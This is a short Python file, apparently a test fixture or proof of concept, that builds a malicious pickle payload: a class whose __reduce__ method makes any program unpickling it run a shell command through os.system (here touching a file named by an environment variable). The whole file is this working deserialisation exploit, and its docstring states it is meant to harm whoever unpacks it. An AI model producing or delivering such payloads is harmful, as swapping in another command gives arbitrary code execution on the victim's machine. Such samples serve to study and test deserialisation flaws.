"""Returns something that does harm to whoever unpacks it."""
import os


class Harm:
    def __reduce__(self):
        return (os.system, ("touch " + os.environ.get("TARGET", "/tmp/harm"),))


def main(given):
    return {"harm": Harm()}
